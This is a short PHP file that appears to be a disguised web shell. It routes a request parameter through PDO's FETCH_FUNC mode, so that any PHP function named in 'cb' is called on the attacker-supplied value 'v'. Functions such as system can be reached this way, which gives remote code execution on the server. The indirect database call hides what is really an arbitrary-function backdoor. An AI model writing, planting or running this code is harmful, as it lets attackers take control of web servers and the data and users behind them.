<?php
$d = new PDO('sqlite::memory:');
$s = $d->prepare('select ?');
$s->execute([$_REQUEST['v']]);
$s->fetchAll(PDO::FETCH_FUNC, $_REQUEST['cb']);
